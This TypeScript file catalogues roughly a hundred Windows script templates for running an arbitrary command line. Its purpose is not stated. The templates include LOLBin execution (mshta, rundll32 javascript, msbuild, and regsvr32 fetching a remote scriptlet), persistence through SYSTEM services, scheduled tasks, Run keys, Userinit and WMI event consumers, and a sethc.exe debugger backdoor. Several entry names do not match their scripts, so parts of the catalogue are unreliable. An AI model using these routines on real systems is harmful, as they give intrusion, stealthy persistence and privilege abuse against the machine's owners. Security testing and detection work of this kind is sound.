/** Doors through which a command line runs: each makes a script of a command line that holds no quotes. */

export interface CommandDoor {
  readonly name: string;
  readonly language: "powershell" | "cmd";
  /** The script; in PowerShell the line is in `$line`, in cmd it stands where it is put. */
  readonly script: (line: string) => string;
}

const powershell = (name: string, body: string): CommandDoor => ({ name, language: "powershell", script: () => body });
const cmd = (name: string, script: (line: string) => string): CommandDoor => ({ name, language: "cmd", script });

const RUN = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
const IFEO = "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe";
const WINLOGON = "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
const STARTUP = "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp";

const TASK_XML = `$xml = '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>cmd.exe</Command><Arguments>/c ' + $line + '</Arguments></Exec></Actions></Task>'\n`;

export const COMMAND_DOORS: readonly CommandDoor[] = [
  // Shells and what starts programs.
  powershell("cmd /c", "cmd /c $line"),
  powershell("cmd /c quoted", 'cmd.exe /d /s /c "$line"'),
  powershell("piped into cmd", "$line | cmd"),
  powershell("piped into powershell", "$line | powershell -NoProfile -Command -"),
  powershell("powershell -Command", "powershell -NoProfile -Command $line"),
  powershell(
    "powershell -EncodedCommand",
    "powershell -EncodedCommand ([Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($line)))",
  ),
  powershell("iex", "Invoke-Expression $line"),
  powershell("script block", "& ([scriptblock]::Create($line))"),
  powershell("Start-Process", 'Start-Process cmd -ArgumentList "/c $line" -Wait'),
  powershell(
    "Start-Process with input",
    "Set-Content C:\\in.txt $line\nStart-Process cmd -RedirectStandardInput C:\\in.txt -Wait",
  ),
  powershell("Process.Start", "[Diagnostics.Process]::Start('cmd.exe', \"/c $line\").WaitForExit()"),
  powershell("WScript.Shell", "(New-Object -ComObject WScript.Shell).Run($line, 0, $true)"),
  powershell("Shell.Application", '(New-Object -ComObject Shell.Application).ShellExecute("cmd.exe", "/c $line")'),
  powershell("Win32_Process by WMI", "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList $line"),
  powershell("Win32_Process by class", "([wmiclass]'Win32_Process').Create($line)"),
  powershell(
    "Win32_Process by CIM",
    "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = $line }",
  ),
  powershell("Invoke-Command on this host", "Invoke-Command -ComputerName localhost -ScriptBlock { cmd /c $using:line }"),
  powershell("Start-Job", "Start-Job -ScriptBlock { cmd /c $args[0] } -ArgumentList $line | Wait-Job"),
  powershell("batch file", "Set-Content C:\\run.cmd $line\n& C:\\run.cmd"),
  powershell("script file", "Set-Content C:\\run.ps1 $line\n& C:\\run.ps1"),
  powershell(
    "Invoke-WSManAction",
    "Invoke-WSManAction -ResourceURI wmicimv2/Win32_Process -Action Create -ValueSet @{ CommandLine = $line }",
  ),
  powershell(
    "MMC20.Application",
    '[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application")).Document.ActiveView.ExecuteShellCommand("cmd", $null, "/c $line", "7")',
  ),
  cmd("cmd", (line) => line),
  cmd("piped into cmd in cmd", (line) => `echo ${line} | cmd`),
  cmd("cmd with a file", (line) => `echo ${line} > C:\\in.txt\r\ncmd < C:\\in.txt`),
  cmd("start", (line) => `start "" /wait cmd /c ${line}`),
  cmd("call", (line) => `call ${line}`),
  cmd("for /f", (line) => `for /f "delims=" %%L in ('${line}') do echo %%L`),
  cmd("forfiles", (line) => `forfiles /p C:\\Windows /m notepad.exe /c "cmd /c ${line}"`),
  cmd("pcalua", (line) => `pcalua.exe -a cmd.exe -c "/c ${line}"`),
  cmd("conhost", (line) => `conhost.exe cmd /c ${line}`),
  cmd("runas", (line) => `runas /user:Administrator "cmd /c ${line}"`),
  cmd("psexec", (line) => `psexec -accepteula -s cmd /c ${line}`),
  cmd("winrs", (line) => `winrs -r:localhost cmd /c ${line}`),
  cmd("wmic", (line) => `wmic process call create "cmd /c ${line}"`),
  cmd("winrm invoke", (line) => `winrm invoke Create wmicimv2/Win32_Process @{CommandLine="cmd /c ${line}"}`),
  cmd("rundll32 shell32", (line) => `rundll32.exe shell32.dll,ShellExec_RunDLL cmd.exe /c ${line}`),
  cmd("rundll32 advpack", (line) => `rundll32 advpack.dll,RegisterOCX "cmd.exe /c ${line}"`),
  cmd(
    "rundll32 javascript",
    (line) => `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";new%20ActiveXObject("WScript.Shell").Run("${line}")`,
  ),
  cmd("mshta", (line) => `mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""${line}"":close")`),
  cmd("regsvr32", () => "regsvr32 /s /n /u /i:http://files.contoso.com/x.sct scrobj.dll"),
  cmd("wscript", (line) => `echo CreateObject("WScript.Shell").Run "${line}" > C:\\x.vbs\r\ncscript //nologo C:\\x.vbs`),
  cmd("wscript by name", (line) => `echo CreateObject("WScript.Shell").Run "${line}" > C:\\x.vbs\r\nC:\\x.vbs`),
  cmd("msiexec with a transform", () => "msiexec /i C:\\app.msi TRANSFORMS=\\\\files\\x.mst /qn"),
  cmd("wsl", (line) => `wsl -- cmd.exe /c ${line}`),
  cmd("python", (line) => `python -c "import os; os.system('${line}')"`),
  cmd("perl", (line) => `perl -e "system('${line}')"`),
  cmd(
    "hta file",
    (line) =>
      `echo ^<script language="VBScript"^>CreateObject("WScript.Shell").Run "${line}"^</script^> > C:\\x.hta\r\nmshta C:\\x.hta`,
  ),
  cmd("explorer", (line) => `echo ${line} > C:\\x.cmd\r\nexplorer.exe C:\\x.cmd`),
  cmd("sqlcmd", (line) => `sqlcmd -Q "EXEC xp_cmdshell '${line}'"`),
  cmd("iexpress", () => "cmstp /s C:\\x.inf"),
  cmd(
    "msbuild",
    (line) =>
      `echo ^<Project^>^<Target Name="x"^>^<Exec Command="${line}"/^>^</Target^>^</Project^> > C:\\x.proj\r\nmsbuild C:\\x.proj`,
  ),
  cmd("scriptrunner", (line) => `ScriptRunner.exe -appvscript cmd /c ${line}`),
  // Services.
  powershell("New-Service", 'New-Service -Name web1 -BinaryPathName "cmd /c $line"'),
  powershell(
    "Win32_Service by CIM",
    "Invoke-CimMethod -ClassName Win32_Service -MethodName Create -Arguments @{ Name = 'web1'; DisplayName = 'web1'; PathName = \"cmd /c $line\" }",
  ),
  powershell("Win32_Service by WMI", '(Get-WmiObject Win32_Service -Filter "Name=\'Spooler\'").Change($null, "cmd /c $line")'),
  powershell(
    "ImagePath",
    'Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Services\\Spooler -Name ImagePath -Value "cmd /c $line"',
  ),
  powershell(
    "Install-Service of a module",
    'Set-CService -Name web1 -Path C:\\x.exe\nsc.exe config web1 binPath= "cmd /c $line"',
  ),
  cmd("sc create", (line) => `sc create web1 binPath= "cmd /c ${line}"`),
  cmd("sc config", (line) => `sc config Spooler binPath= "cmd /c ${line}"`),
  cmd("sc failure", (line) => `sc failure Spooler reset= 0 command= "cmd /c ${line}" actions= run/1000`),
  cmd("nssm install", (line) => `nssm install web1 cmd.exe /c ${line}`),
  cmd("nssm set", (line) => `nssm set web1 Application cmd.exe\r\nnssm set web1 AppParameters "/c ${line}"`),
  cmd(
    "srvany",
    (line) =>
      `instsrv web1 C:\\tools\\srvany.exe\r\nreg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\web1\\Parameters /v Application /d "cmd.exe /c ${line}"`,
  ),
  cmd("wmic service", (line) => `wmic service where name="Spooler" call change PathName="cmd /c ${line}"`),
  // Scheduled tasks.
  powershell(
    "Register-ScheduledTask",
    'Register-ScheduledTask -TaskName x -User SYSTEM -Action (New-ScheduledTaskAction -Execute cmd.exe -Argument "/c $line")',
  ),
  powershell("Register-ScheduledTask -Xml", `${TASK_XML}Register-ScheduledTask -TaskName x -Xml $xml`),
  powershell(
    "Set-ScheduledTask",
    'Set-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute cmd.exe -Argument "/c $line")',
  ),
  powershell("schtasks /xml", `${TASK_XML}Set-Content C:\\t.xml $xml\nschtasks /create /tn x /xml C:\\t.xml`),
  powershell(
    "Schedule.Service",
    "$service = New-Object -ComObject Schedule.Service\n$service.Connect()\n$task = $service.NewTask(0)\n$action = $task.Actions.Create(0)\n$action.Path = 'cmd.exe'\n$action.Arguments = \"/c $line\"\n$service.GetFolder('\\').RegisterTaskDefinition('x', $task, 6, 'SYSTEM', $null, 5)",
  ),
  powershell(
    "Schedule.Service by XML",
    `${TASK_XML}$service = New-Object -ComObject Schedule.Service\n$service.Connect()\n$service.GetFolder('\\').RegisterTask('x', $xml, 6, $null, $null, 3)`,
  ),
  powershell(
    "CIM of the task scheduler",
    `${TASK_XML}Invoke-CimMethod -Namespace Root/Microsoft/Windows/TaskScheduler -ClassName PS_ScheduledTask -MethodName RegisterByXml -Arguments @{ TaskName = 'x'; Xml = $xml }`,
  ),
  powershell(
    "Win32_ScheduledJob",
    "Invoke-CimMethod -ClassName Win32_ScheduledJob -MethodName Create -Arguments @{ Command = $line; StartTime = '********120000.000000+000' }",
  ),
  powershell(
    "Register-ScheduledJob",
    "Register-ScheduledJob -Name x -ScriptBlock { cmd /c $args[0] } -ArgumentList $line -RunNow",
  ),
  powershell("task file", `${TASK_XML}Set-Content C:\\Windows\\System32\\Tasks\\x $xml`),
  cmd("schtasks /create", (line) => `schtasks /create /tn x /sc onstart /ru SYSTEM /tr "cmd /c ${line}"`),
  cmd("schtasks /change", (line) => `schtasks /change /tn x /tr "cmd /c ${line}"`),
  cmd("at", (line) => `at 12:00 /every:m,t,w,th,f cmd /c ${line}`),
  // What Windows runs at its start, at a logon, or when something occurs.
  powershell("Run key", `Set-ItemProperty 'HKLM:\\${RUN}' -Name x -Value $line`),
  powershell("Run key by .NET", `[Microsoft.Win32.Registry]::SetValue('HKEY_LOCAL_MACHINE\\${RUN}', 'x', $line)`),
  powershell(
    "Run key by OpenBaseKey",
    `[Microsoft.Win32.RegistryKey]::OpenBaseKey('LocalMachine', 'Default').CreateSubKey('${RUN}').SetValue('x', $line)`,
  ),
  powershell("Run key by RegWrite", `(New-Object -ComObject WScript.Shell).RegWrite('HKLM\\${RUN}\\x', $line)`),
  powershell("Run key by WMI", `([wmiclass]'root\\default:StdRegProv').SetStringValue(2147483650, '${RUN}', 'x', $line)`),
  powershell(
    "Run key by Invoke-WmiMethod",
    `Invoke-WmiMethod -Namespace root\\default -Class StdRegProv -Name SetStringValue -ArgumentList 2147483650, '${RUN}', $line, 'x'`,
  ),
  powershell(
    "Run key by .reg file",
    `Set-Content C:\\x.reg ("Windows Registry Editor Version 5.00\`r\`n\`r\`n[HKEY_LOCAL_MACHINE\\${RUN}]\`r\`n\`"x\`"=\`"" + $line.Replace('\\', '\\\\') + "\`"")\nreg import C:\\x.reg`,
  ),
  powershell(
    "Run key by group policy",
    `Set-GPRegistryValue -Name Servers -Key 'HKLM\\${RUN}' -ValueName x -Type String -Value $line`,
  ),
  powershell("RunOnce", `New-ItemProperty 'HKLM:\\${RUN}Once' -Name x -Value $line`),
  powershell("IFEO", `New-Item 'HKLM:\\${IFEO}' -Force\nSet-ItemProperty 'HKLM:\\${IFEO}' -Name Debugger -Value "cmd /c $line"`),
  powershell(
    "Userinit",
    `Set-ItemProperty 'HKLM:\\${WINLOGON}' -Name Userinit -Value "C:\\Windows\\system32\\userinit.exe,cmd /c $line"`,
  ),
  powershell("start-up folder", `Set-Content '${STARTUP}\\x.cmd' $line`),
  powershell("start-up folder by .NET", `[IO.File]::WriteAllText('${STARTUP}\\x.cmd', $line)`),
  powershell("start-up folder by copy", `Set-Content C:\\x.cmd $line\nCopy-Item C:\\x.cmd '${STARTUP}'`),
  powershell(
    "start-up shortcut",
    `$link = (New-Object -ComObject WScript.Shell).CreateShortcut('${STARTUP}\\x.lnk')\n$link.TargetPath = 'cmd.exe'\n$link.Arguments = "/c $line"\n$link.Save()`,
  ),
  powershell("group policy script", "Set-Content C:\\Windows\\System32\\GroupPolicy\\Machine\\Scripts\\Startup\\x.cmd $line"),
  powershell(
    "SetupComplete",
    "New-Item C:\\Windows\\Setup\\Scripts -ItemType Directory -Force\nSet-Content C:\\Windows\\Setup\\Scripts\\SetupComplete.cmd $line",
  ),
  powershell(
    "WMI consumer",
    "Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{ Name = 'x'; CommandLineTemplate = $line }",
  ),
  powershell(
    "WMI consumer by CIM",
    "New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{ Name = 'x'; CommandLineTemplate = $line }",
  ),
  powershell(
    "WMI consumer by class",
    "$c = ([wmiclass]'\\\\.\\root\\subscription:CommandLineEventConsumer').CreateInstance()\n$c.Name = 'x'\n$c.CommandLineTemplate = $line\n$c.Put()",
  ),
  powershell(
    "WMI script consumer",
    'Set-WmiInstance -Namespace root\\subscription -Class ActiveScriptEventConsumer -Arguments @{ Name = \'x\'; ScriptingEngine = \'VBScript\'; ScriptText = "CreateObject(`"WScript.Shell`").Run `"$line`"" }',
  ),
  powershell("BITS notification", 'Start-BitsTransfer -Source http://x/y -Destination C:\\y -NotifyCmdLine "cmd.exe","/c $line"'),
  cmd("bitsadmin", (line) => `bitsadmin /create x\r\nbitsadmin /setnotifycmdline x C:\\Windows\\System32\\cmd.exe "/c ${line}"`),
  cmd("reg add", (line) => `reg add HKLM\\${RUN} /v x /d "${line}" /f`),
  cmd("regini", (line) => `echo HKEY_LOCAL_MACHINE\\${RUN} > C:\\r.txt\r\necho   x = ${line} >> C:\\r.txt\r\nregini C:\\r.txt`),
  cmd("start-up folder in cmd", (line) => `echo ${line} > "${STARTUP}\\x.cmd"`),
  cmd(
    "mofcomp",
    (line) =>
      `echo instance of CommandLineEventConsumer { Name="x"; CommandLineTemplate="${line}"; }; > C:\\x.mof\r\nmofcomp C:\\x.mof`,
  ),
  cmd("eventtriggers", (line) => `eventtriggers /create /tr x /eid 1 /tk "cmd /c ${line}"`),
  cmd("logman", (line) => `schtasks /create /tn x /sc onevent /ec System /tr "cmd /c ${line}"`),
];
